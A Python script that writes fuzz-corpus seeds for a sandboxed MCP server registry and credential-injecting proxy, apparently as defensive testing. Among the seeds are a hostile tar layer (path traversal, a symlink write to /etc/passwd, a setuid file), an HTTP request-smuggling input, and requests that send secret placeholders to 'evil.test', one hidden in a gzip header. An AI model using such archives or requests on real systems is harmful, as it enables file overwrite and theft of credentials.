#!/usr/bin/env python3
"""Writes the hand-made seed inputs of the coverage-guided targets into fuzz/corpus/<target>/,
as `seed-<name>` files, and inputs that showed a bug as `regression-<name>` (kept by every
corpus merge); it touches no other file there.

Run by hand (needs the `cryptography` package for the signed indexes); the corpus, seeds and
what fuzzing added, minimised, is committed, and `make fuzz-cov` starts from it. Each seed is a
small, valid input of the kind the target's entry point receives, so mutations start past the
first checks: signed indexes (the fixed test key, 32 bytes of 7), tar layers, servers files,
JSON-RPC lines, HTTP requests carrying the test sandbox's placeholders.
"""

import base64
import gzip
import hashlib
import io
import json
import os
import tarfile

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

CORPUS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus")
DIGEST = "sha256:" + "ab" * 32


def write(target, name, data, kind="seed"):
    os.makedirs(os.path.join(CORPUS, target), exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(CORPUS, target, f"{kind}-{name}"), "wb") as f:
        f.write(data)


# ---- indexes ---------------------------------------------------------------------------------

def index_full():
    return {
        "schemaVersion": 1,
        "version": 7,
        "expires": "2030-01-01T00:00:00Z",
        "servers": {
            "echo": {
                "description": "Echoes",
                "latest": "1.1.0",
                "versions": {
                    "1.0.0": {"image": f"127.0.0.1:5000/echo-mcp:1.0.0@{DIGEST}", "entrypoint": "/echo-mcp"},
                    "1.1.0": {
                        "image": f"ghcr.io/gig/echo-mcp:1.1.0@{DIGEST}",
                        "entrypoint": "/usr/bin/echo-mcp",
                        "args": ["--stdio"],
                        "transport": "stdio",
                        "env": {"LOG": "info"},
                        "credentials": [{
                            "env": "API_KEY",
                            "hosts": ["api.example.com"],
                            "inject": {"type": "header", "name": "Authorization", "template": "Bearer {}"},
                        }],
                        "egress": ["api.example.com", "*.example.org:443,8443"],
                        "limits": {"memoryBytes": 268435456},
                        "extract": "rootfs",
                        "description": "with a key",
                    },
                },
            },
            "fetch": {
                "description": "Fetches \u00e9 \"quoted\"",
                "latest": "0.2.0",
                "versions": {"0.2.0": {"image": f"ghcr.io/gig/fetch:0.2.0@{DIGEST}", "entrypoint": "/fetch",
                                       "extract": "entrypoint"}},
            },
        },
    }


def index_minimal():
    return {"schemaVersion": 1, "version": 1, "expires": "2030-01-01T00:00:00Z", "servers": {}}


def canonical(value):
    # RFC 8785 for this ASCII-and-integer content: sorted keys, no whitespace.
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def signed(index, keys):
    sigs = []
    for key in keys:
        public = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        sigs.append({"keyid": hashlib.sha256(public).hexdigest()[:16],
                     "sig": base64.b64encode(key.sign(canonical(index))).decode()})
    return json.dumps({"signed": index, "signatures": sigs}, indent=2) + "\n"


def indexes():
    test_key = Ed25519PrivateKey.from_private_bytes(bytes([7]) * 32)
    other_key = Ed25519PrivateKey.from_private_bytes(bytes([9]) * 32)
    write("index_verify", "full", signed(index_full(), [test_key]))
    write("index_verify", "minimal", signed(index_minimal(), [test_key]))
    write("index_verify", "two_signatures", signed(index_minimal(), [other_key, test_key]))
    write("index_document", "full", json.dumps(index_full(), indent=2))
    write("index_document", "minimal", json.dumps(index_minimal()))


# ---- tar layers ------------------------------------------------------------------------------

def tar(members, fmt=tarfile.GNU_FORMAT):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for info, data in members:
            t.addfile(info, io.BytesIO(data) if data is not None else None)
    raw = buf.getvalue()
    # Drop tarfile's record padding: keep the two end-of-archive blocks only.
    end = len(raw.rstrip(b"\0"))
    end = (end + 511) // 512 * 512
    return raw[: end + 1024]


def member(name, kind=tarfile.REGTYPE, data=None, mode=0o644, link=""):
    info = tarfile.TarInfo(name)
    info.type = kind
    info.mode = mode
    info.linkname = link
    if data is not None:
        info.size = len(data)
    return info, data


def layers():
    # Knobs: max_files, max_total_bytes, max_path_bytes, cut, entrypoint.
    knobs = bytes([40, 8, 20, 0, 0])
    rootfs = tar([
        member("bin", tarfile.DIRTYPE, mode=0o755),
        member("bin/a", data=b"#!/bin/sh\necho hi\n", mode=0o755),
        member("usr/bin", tarfile.DIRTYPE, mode=0o755),
        member("usr/bin/server", tarfile.SYMTYPE, link="../../bin/a"),
        member("etc/hard", tarfile.LNKTYPE, link="bin/a"),
        member("etc/.wh.gone"),
    ])
    write("layer_extraction", "rootfs", knobs + rootfs)
    long_names = tar([
        member("a/" + "n" * 150 + "/file", data=b"long"),
        member("b/" + "l" * 120, tarfile.SYMTYPE, link="../a/" + "t" * 110),
    ], fmt=tarfile.PAX_FORMAT)
    write("layer_extraction", "pax_long_names", bytes([40, 8, 31, 0, 3]) + long_names)
    hostile = tar([
        member("../escape", data=b"x"),
        member("/abs", data=b"x"),
        member("link", tarfile.SYMTYPE, link="/"),
        member("link/etc/passwd", data=b"root::0:0\n"),
        member("up", tarfile.SYMTYPE, link="../.."),
        member("hard", tarfile.LNKTYPE, link="../victim"),
        member("dev", tarfile.CHRTYPE),
        member("suid", data=b"s", mode=0o4777),
    ])
    write("layer_extraction", "hostile", bytes([4, 1, 2, 0, 1]) + hostile)
    # Two layers: the second (after 3 blocks) removes and replaces the first's files.
    first = tar([member("bin", tarfile.DIRTYPE, mode=0o755), member("bin/a", data=b"one", mode=0o755)])[:-1024]
    second = tar([member("bin/.wh.a"), member("bin/.wh..wh..opq"), member("bin/a", data=b"two", mode=0o755)])
    assert len(first) == 3 * 512
    write("layer_extraction", "two_layers", bytes([40, 8, 20, 4, 0]) + first + second)


# ---- servers files ---------------------------------------------------------------------------

def servers_files():
    write("servers_file", "empty", '{"mcpServers": {}}\n')
    write("servers_file", "all_kinds", json.dumps({"mcpServers": {
        "local": {"command": "npx", "args": ["-y", "@scope/server"], "env": {"LOG": "debug"}, "cwd": "/tmp"},
        "boxed": {"command": "/opt/s", "sandbox": {
            "bindRo": ["/opt/data"], "maxProcesses": 8, "memoryBytes": 268435456, "cpuMillis": 500,
            "egress": ["api.example.com", "*.example.org:443"], "allowAddresses": ["10.0.0.0/8"],
            "credentials": [{"env": "API_KEY", "hosts": ["api.example.com"],
                             "inject": {"type": "header", "name": "Authorization", "template": "Bearer {}"}}]}},
        "remote": {"type": "http", "url": "https://mcp.example.com/mcp",
                   "headers": {"Authorization": "Bearer ${credential:token}", "X-Plain": "v"}},
        "legacy": {"type": "sse", "url": "http://10.1.2.3:8080/sse", "allowAddresses": ["10.1.2.3/32"]},
        "off": {"command": "x", "disabled": True, "autoApprove": ["a"]},
    }}, indent=2))


# ---- stdout, framing, requests, responses ----------------------------------------------------

def placeholder(i):
    return "gigph_" + ("%02x" % (i + 1)) * 32


def streams():
    lines = ('{"jsonrpc":"2.0","id":1,"result":{"tools":[]}}\n'
             '{"jsonrpc":"2.0","method":"notifications/message","params":{"level":"info"}}\r\n'
             '  [{"jsonrpc":"2.0","id":2,"result":{}}]\n\n')
    write("stdout_framing", "jsonrpc", bytes([120, 16, 3, 5, 17, 63]) + lines.encode())
    write("stdout_framing", "log_line", bytes([60, 7, 1, 9]) + b'{"jsonrpc":"2.0","id":1}\nStarting server...\n')

    head = "POST http://a.test/ HTTP/1.1\r\nHost: a.test\r\nContent-Length: 5\r\n\r\nhello"
    write("proxy_framing", "plain", bytes([16, 2, 7, 13]) + head.encode())
    smuggle = "POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    write("proxy_framing", "smuggling", bytes([5, 1, 3]) + smuggle.encode())

    def req(knob, text, body=b""):
        return bytes([knob]) + text.replace("\n", "\r\n").encode() + body

    write("proxy_request", "header_and_query", req(0,
        f"GET /v1/items?q=1&key={placeholder(1)} HTTP/1.1\nHost: api.example.test\n"
        f"Authorization: Bearer {placeholder(0)}\n\n"))
    write("proxy_request", "basic", req(1,
        "POST /upload HTTP/1.1\nHost: other.example.test:443\nContent-Type: application/json\n"
        "Authorization: Basic " + base64.b64encode(f"me:{placeholder(2)}".encode()).decode() + "\n"
        "Content-Length: 13\n\n", b'{"name":"x"}\n'))
    write("proxy_request", "body_to_another_host", req(4,
        "POST /collect HTTP/1.1\nHost: evil.test\nContent-Length: 80\n\n",
        f'{{"k":"{placeholder(0)}"}}'.encode()))
    write("proxy_request", "plain_http", req(5,
        "GET http://third.example.test/path?a=b HTTP/1.1\nHost: third.example.test\n\n"))
    gz = io.BytesIO()
    with gzip.GzipFile(filename="body.json", mode="wb", fileobj=gz, mtime=0) as f:
        f.write(b'{"query":"weather"}')
    write("proxy_request", "gzip_body", req(0,
        "POST /v1/search HTTP/1.1\nHost: api.example.test\nContent-Encoding: gzip\n"
        f"Authorization: Bearer {placeholder(0)}\n\n", gz.getvalue()))
    # The bug the target's property showed (gig-proxy's `a_placeholder_in_a_gzip_header_is_refused`):
    # a placeholder in the gzip header's file name, which the decoder skips, sent to another host.
    gz = io.BytesIO()
    with gzip.GzipFile(filename=placeholder(0), mode="wb", fileobj=gz, mtime=0) as f:
        f.write(b'{"q":"weather"}')
    write("proxy_request", "gzip_header_placeholder", req(4,
        "POST /collect HTTP/1.1\nHost: evil.test\nContent-Encoding: gzip\n\n", gz.getvalue()),
        kind="regression")

    # Knobs: 2 secrets (length, 8..24 letters, Basic flag each), 2 chunk sizes; then a body with
    # secret tokens 0xF0.. between ordinary bytes.
    knobs = bytes([1, 4]) + bytes(range(30, 42)) + bytes([1]) + bytes([8]) + bytes(range(50, 66)) + bytes([0])
    knobs += bytes([1, 3, 11])
    body = b'{"token":"' + bytes([0xF0]) + b'","echo":"' + bytes([0xF4]) + b'"} ' + bytes([0xF3, 0xF7, 0xF1])
    write("proxy_scrub", "two_secrets", knobs + body)


# ---- /api bodies and OAuth parameters -------------------------------------------------------

def api():
    bodies = [
        {"name": "ci token", "role": "operator", "expires_in": 86400},
        {"sha256": "ab" * 32},
        {"name": "laptop", "expires_in": 3600},
        {"ref": "echo@1.1.0"},
        {"value": "s3cr3t value"},
        {"role": "viewer"},
        {"user": "alice@example.com"},
        {"name": " Research ", "tools": ["echo_echo", "fetch/*"],
         "overrides": {"echo_echo": {"name": "say", "description": "Says it"}}, "unprefixed": True},
    ]
    for kind, body in enumerate(bodies):
        write("api_bodies", f"kind{kind}", bytes([kind]) + json.dumps(body).encode())
    write("oauth_params", "authorize",
          "response_type=code&client_id=gigd_abc&redirect_uri=http%3A%2F%2F127.0.0.1%3A8123%2Fcb"
          "&scope=mcp+offline_access&state=xyz&code_challenge=" + "E" * 43 + "&code_challenge_method=S256")
    write("oauth_params", "register_like",
          "redirect_uri=https%3A%2F%2Fapp.example%2Fcallback%3Fx%3D1&client_id=cursor%3A%2F%2Fanysphere%2Fcb"
          "&request=" + "q" * 64)
    write("oauth_params", "token", "grant_type=authorization_code&code=gigc_123&code_verifier=" + "a-._~" * 9)


def main():
    api()
    indexes()
    layers()
    servers_files()
    streams()


if __name__ == "__main__":
    main()
